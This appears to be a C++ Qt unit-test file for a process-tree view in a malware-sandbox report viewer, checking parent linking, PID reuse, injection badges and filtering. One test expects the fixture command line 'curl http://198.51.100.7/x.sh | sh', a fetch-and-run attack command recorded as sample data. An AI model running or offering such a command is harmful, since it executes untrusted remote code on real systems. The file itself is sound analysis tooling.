// SPDX-License-Identifier: GPL-3.0-or-later
#include "ui/models/processtreemodel.h"
#include "hostilereport.h"
#include "support/fixture.h"
#include "support/testregistry.h"

#include <QAbstractItemModelTester>
#include <QElapsedTimer>

class ProcessTreeModelTest : public QObject {
    Q_OBJECT
private Q_SLOTS:
    void linksParentsAndCutsCircles();
    void takesTheFirstOfTwoWithOnePid();
    void theReportsTreeTellsProcessesOfOnePidApart();
    void readsProcessesOfLinux();
    void readsAPidThatWasUsedTwice();
    void withoutATreeTheLastOneBeforeIsTheParent();
    void losesNoProcessOfTheTree();
    void marksInWordsNameProcesses();
    void payloadsTellOfInjections();
    void countsWhatProcessesDid();
    void survivesMarksOfWrongTypes();
    void modelAndFilterKeepTheirContract();
    void filterKeepsAncestors();
    void filtersALongChainAtOnce();
    void tellsKindsOfProcesses();
    void knowsHarmlessProcesses();
    void hidesHarmlessProcesses();
};

namespace {

std::shared_ptr<const ui::ProcessTable> tableOf(const core::json::Object& report)
{
    return std::make_shared<const ui::ProcessTable>(*test::parsed(report));
}

int countRows(const QAbstractItemModel& model)
{
    int count = 0;
    QModelIndexList open{QModelIndex()};
    while (!open.isEmpty()) {
        const QModelIndex parent = open.takeLast();
        const int rows = model.rowCount(parent);
        count += rows;
        for (int row = 0; row < rows; ++row) {
            open += model.index(row, 0, parent);
        }
    }
    return count;
}

} // namespace

void ProcessTreeModelTest::linksParentsAndCutsCircles()
{
    // 1 and 2 are each other's parent, 3 its own, 4 belongs to 1, the parent of 5 is not there.
    const auto table = tableOf(test::report(
        {test::process(1, 2), test::process(2, 1), test::process(3, 3), test::process(4, 1), test::process(5, 99)}));
    QCOMPARE(table->rows().size(), std::size_t(5));
    QCOMPARE(table->roots().size(), std::size_t(3));
    QCOMPARE(table->rows()[2].parent, -1);
    QCOMPARE(table->rows()[3].parent, 0);
    QCOMPARE(table->rows()[4].parent, -1);
    QVERIFY((table->rows()[0].parent == -1) != (table->rows()[1].parent == -1));
    ui::ProcessTreeModel model;
    model.setTable(table);
    QCOMPARE(countRows(model), 5);
}

void ProcessTreeModelTest::takesTheFirstOfTwoWithOnePid()
{
    const auto table = tableOf(test::report({test::process(7, 1, {test::call(0, "file", "A", "x")}),
        test::process(7, 1, {test::call(0, "file", "B", "x")}), test::process(8, 7)}));
    QCOMPARE(table->rowOfPid(7), 0);
    QCOMPARE(table->rowOfCall(0), 0);
    QCOMPARE(table->rowOfCall(1), 1);
    QCOMPARE(table->rowOfCall(2), -1);
    QCOMPARE(table->rowOfPid(9), -1);
}

void ProcessTreeModelTest::theReportsTreeTellsProcessesOfOnePidApart()
{
    // p7.exe starts p5.exe, that starts another process with the pid 7, and that one starts p8.exe. The list has the
    // children before their parents.
    core::json::Object reuse = test::process(7, 5).toObject();
    reuse["process_name"] = "reuse.exe";
    reuse["first_seen"] = "2026-01-31 10:09:00,000";
    core::json::Object report = test::report({test::process(8, 7), test::process(7, 1), test::process(5, 7), reuse});
    (*report["behavior"].object())["processtree"] = core::json::Array{test::node(7, "p7.exe",
        {test::node(5, "p5.exe", {test::node(7, "reuse.exe", {test::node(8, "p8.exe"), test::node(9, "p9.exe")})})})};
    const auto table = tableOf(report);
    QCOMPARE(table->rows().size(), std::size_t(5));
    QCOMPARE(table->rows()[1].parent, -1);
    QCOMPARE(table->rows()[2].parent, 1);
    QCOMPARE(table->rows()[3].parent, 2);
    QCOMPARE(table->rows()[0].parent, 3);
    QCOMPARE(table->rows()[4].parent, 3); // which was not monitored
    QCOMPARE(table->rows()[4].name, std::string("p9.exe"));
    ui::ProcessTreeModel model;
    model.setTable(table);
    QCOMPARE(model.indexOfRow(0, ui::ProcessTreeModel::CallsColumn).data().toString(), QStringLiteral("0"));
    QCOMPARE(model.indexOfRow(4, ui::ProcessTreeModel::CallsColumn).data().toString(), QStringLiteral("\u2013"));
    QVERIFY(model.indexOfRow(4).data(Qt::ToolTipRole).toString().contains(QLatin1String("not monitored")));
}

void ProcessTreeModelTest::readsProcessesOfLinux()
{
    const auto table = tableOf(test::jsonFixture(QStringLiteral("reports/linux-strace.json")).toObject());
    QCOMPARE(table->rows().size(), std::size_t(3));
    QCOMPARE(table->rows()[1].commandLine, std::string("sh -c 'curl http://198.51.100.7/x.sh | sh'"));
    QCOMPARE(table->rows()[2].parent, 1);
    ui::ProcessTreeModel model;
    model.setTable(table);
    QCOMPARE(model.indexOfRow(0, ui::ProcessTreeModel::FirstSeenColumn).data().toString(),
        QStringLiteral("T+00:05.500"));
}

void ProcessTreeModelTest::readsAPidThatWasUsedTwice()
{
    const auto table = tableOf(test::jsonFixture(QStringLiteral("reports/pid-reuse.json")).toObject());
    const auto& rows = table->rows();
    QCOMPARE(rows.size(), std::size_t(4));
    QCOMPARE(rows[3].name, std::string("child.exe"));
    QCOMPARE(rows[std::size_t(rows[3].parent)].name, std::string("reuse.exe"));
    QCOMPARE(rows[std::size_t(rows[2].parent)].name, std::string("cmd.exe"));
}

void ProcessTreeModelTest::withoutATreeTheLastOneBeforeIsTheParent()
{
    core::json::Object later = test::process(7, 1).toObject();
    later["first_seen"] = "2026-01-31 10:09:00,000";
    core::json::Object last = test::process(9, 7).toObject();
    last["first_seen"] = "2026-01-31 10:10:00,000";
    const auto table = tableOf(test::report({test::process(7, 1), later, test::process(8, 7), last}));
    QCOMPARE(table->rows()[2].parent, 0);
    QCOMPARE(table->rows()[3].parent, 1);
    // One that was seen after its child is its parent still: nobody else is.
    const auto reversed = tableOf(test::report({last, later}));
    QCOMPARE(reversed->rows()[0].parent, 1);
}

void ProcessTreeModelTest::losesNoProcessOfTheTree()
{
    constexpr int depth = 700; // as deep as a reader takes, and with nodes that have no pid
    core::json::Value chain = test::node(std::nullopt, "nobody.exe");
    for (int pid = 1; pid < depth; ++pid) {
        chain = test::node(pid, "p.exe", {chain});
    }
    core::json::Object report = test::report({});
    (*report["behavior"].object())["processtree"] = core::json::Array{chain};
    const auto parsed = test::parsed(report);
    std::size_t kept = 0; // by the reader, which has a limit of its own
    for (const auto* nodes = &parsed->processTree(); !nodes->empty(); nodes = &nodes->front().children) {
        ++kept;
    }
    const ui::ProcessTable table(*parsed);
    QVERIFY(kept > 100);
    QCOMPARE(table.rows().size(), kept);
    QCOMPARE(table.roots().size(), std::size_t(1));
}

void ProcessTreeModelTest::marksInWordsNameProcesses()
{
    const core::json::Array marks{core::json::Object{{"Injection", "p10.exe(10) -> p20.exe(20)"}}};
    const auto table = tableOf(test::report({test::process(10, 0), test::process(20, 10), test::process(30, 10)},
        {test::signature("InjectionProcessHollowing", 3, marks)}));
    QCOMPARE(table->rows()[0].badges.injectedInto, std::vector<std::int64_t>{20});
    QCOMPARE(table->rows()[1].badges.injectedBy, std::vector<std::int64_t>{10});
    QCOMPARE(table->rows()[1].kind, ui::ProcessKind::Injected);
    QCOMPARE(table->rows()[0].badges.signatures, 1);
    QCOMPARE(table->rows()[1].badges.signatures, 1);
    QCOMPARE(table->rows()[2].badges.signatures, 0);
}

void ProcessTreeModelTest::payloadsTellOfInjections()
{
    core::json::Object report = test::report({test::process(10, 0), test::process(20, 10)});
    core::json::Object payload{{"sha256", "ab"}, {"pid", 10}, {"target_pid", "20"}, {"cape_type_code", 4}};
    report["CAPE"] = core::json::Object{{"payloads", core::json::Array{payload}}, {"configs", core::json::Array()}};
    const auto table = tableOf(report);
    QCOMPARE(table->rows()[1].badges.injectedBy, std::vector<std::int64_t>{10});
    QCOMPARE(table->rows()[0].badges.injectedInto, std::vector<std::int64_t>{20});
}

void ProcessTreeModelTest::countsWhatProcessesDid()
{
    core::json::Value injection = test::call(2, "process", "WriteProcessMemory", "x");
    core::json::Object target;
    target["name"] = "ProcessId";
    target["value"] = "4711";
    (*injection.object())["arguments"] = core::json::Array{target};
    const auto table = tableOf(test::report(
        {test::process(1, 0,
            {test::call(0, "network", "connect", "x"), test::call(1, "registry", "RegSetValueExA", "x"), injection})},
        {test::signature("s", 3, {test::mark(1, 0), test::mark(1, 1)})}));
    const ui::ProcessBadges& badges = table->rows().front().badges;
    QCOMPARE(badges.networkCalls, 1);
    QCOMPARE(badges.registryCalls, 1);
    QCOMPARE(badges.fileCalls, 0);
    QCOMPARE(badges.signatures, 1);
    QCOMPARE(badges.severity, 3);
    QCOMPARE(badges.injectedInto, std::vector<std::int64_t>{4711});
}

void ProcessTreeModelTest::survivesMarksOfWrongTypes()
{
    core::json::Object text;
    text["pid"] = "1";
    core::json::Object list;
    list["pid"] = core::json::Array{1};
    const auto table = tableOf(test::report({test::process(1, 0)},
        {test::signature("s", std::numeric_limits<std::int64_t>::max(),
            {text, list, 5, "text", nullptr, test::mark(1, 1'000'000)})}));
    QCOMPARE(table->rows().front().badges.signatures, 1);
    QVERIFY(table->rows().front().badges.severity > 0 && table->rows().front().badges.severity <= 5);
}

void ProcessTreeModelTest::modelAndFilterKeepTheirContract()
{
    ui::ProcessTreeModel model;
    const QAbstractItemModelTester modelTester(&model);
    ui::ProcessFilterModel filter;
    filter.setSourceModel(&model);
    const QAbstractItemModelTester filterTester(&filter);
    model.setTable(
        tableOf(test::report({test::process(1, 0), test::process(2, 1), test::process(3, 2), test::process(4, 1)})));
    QCOMPARE(countRows(filter), 4);
    filter.setText(QStringLiteral("p3"));
    QCOMPARE(countRows(filter), 3);
    filter.setPids({4});
    QCOMPARE(countRows(filter), 0);
    model.setTable(tableOf(test::report({test::process(4, 0)})));
    filter.setText({});
    QCOMPARE(countRows(filter), 1);
    model.setTable(nullptr);
    QCOMPARE(countRows(filter), 0);
}

void ProcessTreeModelTest::filterKeepsAncestors()
{
    ui::ProcessTreeModel model;
    model.setTable(
        tableOf(test::report({test::process(1, 0), test::process(2, 1), test::process(3, 2), test::process(4, 1)})));
    ui::ProcessFilterModel filter;
    filter.setSourceModel(&model);
    filter.setText(QStringLiteral("P3.EXE"));
    QVERIFY(filter.mapFromSource(model.indexOfRow(2)).isValid());
    QVERIFY(filter.mapFromSource(model.indexOfRow(0)).isValid());
    QVERIFY(!filter.mapFromSource(model.indexOfRow(3)).isValid());
    filter.setText({});
    filter.setPids({4});
    QCOMPARE(countRows(filter), 2);
}

void ProcessTreeModelTest::filtersALongChainAtOnce()
{
    constexpr int length = 5000;
    core::json::Array chain;
    for (int pid = 1; pid <= length; ++pid) {
        chain.push_back(test::process(pid, pid - 1));
    }
    ui::ProcessTreeModel model;
    model.setTable(tableOf(test::report(std::move(chain))));
    ui::ProcessFilterModel filter;
    filter.setSourceModel(&model);
    QElapsedTimer clock;
    clock.start();
    filter.setText(QStringLiteral("p%1.exe").arg(length));
    QVERIFY(filter.mapFromSource(model.indexOfRow(0)).isValid());
    qInfo("a chain of %d processes is filtered in %lld ms", length, clock.elapsed());
    QVERIFY(clock.elapsed() < 2000);
    filter.setText(QStringLiteral("nothing has this"));
    QCOMPARE(filter.rowCount(), 0);
}

namespace {

core::json::Value namedProcess(
    std::int64_t pid, std::int64_t parent, const std::string& path, core::json::Array calls = {})
{
    core::json::Value made = test::process(pid, parent, std::move(calls));
    (*made.object())["process_name"] = path.substr(path.rfind('\\') + 1);
    (*made.object())["module_path"] = path;
    return made;
}

core::json::Value injectionInto(std::int64_t id, const std::string& pid)
{
    core::json::Value injection = test::call(id, "process", "WriteProcessMemory", "x");
    core::json::Object target;
    target["name"] = "ProcessId";
    target["value"] = pid;
    (*injection.object())["arguments"] = core::json::Array{target};
    return injection;
}

const std::string servicesPath = "C:\\Windows\\System32\\services.exe";
const std::string svchostPath = "C:\\Windows\\System32\\svchost.exe";

} // namespace

void ProcessTreeModelTest::tellsKindsOfProcesses()
{
    using enum ui::ProcessKind;
    QCOMPARE(ui::processKindOf("WINWORD.EXE"), Document);
    QCOMPARE(ui::processKindOf("C:\\Windows\\System32\\cmd.exe"), Shell);
    QCOMPARE(ui::processKindOf("wscript.exe"), Script);
    QCOMPARE(ui::processKindOf("firefox"), Browser);
    QCOMPARE(ui::processKindOf("svchost.exe"), Service);
    QCOMPARE(ui::processKindOf("rundll32.exe"), Tool);
    QCOMPARE(ui::processKindOf("explorer.exe"), System);
    QCOMPARE(ui::processKindOf("loader.exe"), Application);
    QCOMPARE(ui::processKindOf(""), Application);

    core::json::Object report = test::report({namedProcess(1, 0, "C:\\T\\Sample.exe", {injectionInto(0, "2")}),
        namedProcess(2, 0, "C:\\Windows\\explorer.exe"), namedProcess(3, 2, "C:\\P\\chrome.exe")});
    core::json::Object file;
    file["name"] = "sample.EXE";
    core::json::Object target;
    target["category"] = "file";
    target["file"] = file;
    report["target"] = target;
    const auto table = tableOf(report);
    QCOMPARE(table->rows()[0].kind, Sample);
    QCOMPARE(table->rows()[1].kind, Injected);
    QCOMPARE(table->rows()[1].badges.injectedBy, std::vector<std::int64_t>{1});
    QCOMPARE(table->rows()[2].kind, Browser);
    ui::ProcessTreeModel model;
    model.setTable(table);
    for (int row = 0; row < 3; ++row) {
        const QModelIndex index = model.indexOfRow(row);
        QVERIFY(!index.data(Qt::DecorationRole).value<QIcon>().isNull());
        QVERIFY(index.data(Qt::AccessibleTextRole).toString().contains(ui::kindText(table->rows()[row].kind)));
    }
}

void ProcessTreeModelTest::knowsHarmlessProcesses()
{
    // A service under services.exe is known; what hangs below it, or a signature, makes it worth a look.
    const auto table = tableOf(test::report(
        {namedProcess(1, 0, servicesPath), namedProcess(2, 1, svchostPath), namedProcess(3, 1, svchostPath),
            namedProcess(4, 3, "C:\\T\\x.exe"), namedProcess(5, 1, svchostPath)},
        {test::signature("s", 2, {test::mark(5, 0)})}));
    QVERIFY(table->rows()[1].isHarmless);
    QVERIFY(!table->rows()[2].isHarmless);
    QVERIFY(!table->rows()[3].isHarmless);
    QVERIFY(!table->rows()[4].isHarmless);
    QVERIFY(!table->rows()[0].isHarmless);
}

void ProcessTreeModelTest::hidesHarmlessProcesses()
{
    ui::ProcessTreeModel model;
    ui::ProcessFilterModel filter;
    filter.setSourceModel(&model);
    const QAbstractItemModelTester tester(&filter);
    model.setTable(tableOf(test::report({namedProcess(1, 0, servicesPath), namedProcess(2, 1, svchostPath),
        namedProcess(3, 1, svchostPath), namedProcess(4, 3, "C:\\T\\x.exe")})));
    QCOMPARE(countRows(filter), 4);
    filter.setHarmlessHidden(true);
    QCOMPARE(countRows(filter), 3);
    QVERIFY(!filter.mapFromSource(model.indexOfRow(1)).isValid());
    QVERIFY(model.indexOfRow(1).data(Qt::ForegroundRole).isValid());
    filter.setHarmlessHidden(false);
    QCOMPARE(countRows(filter), 4);
}

REGISTER_TEST(ProcessTreeModelTest)
#include "processtreemodeltest.moc"
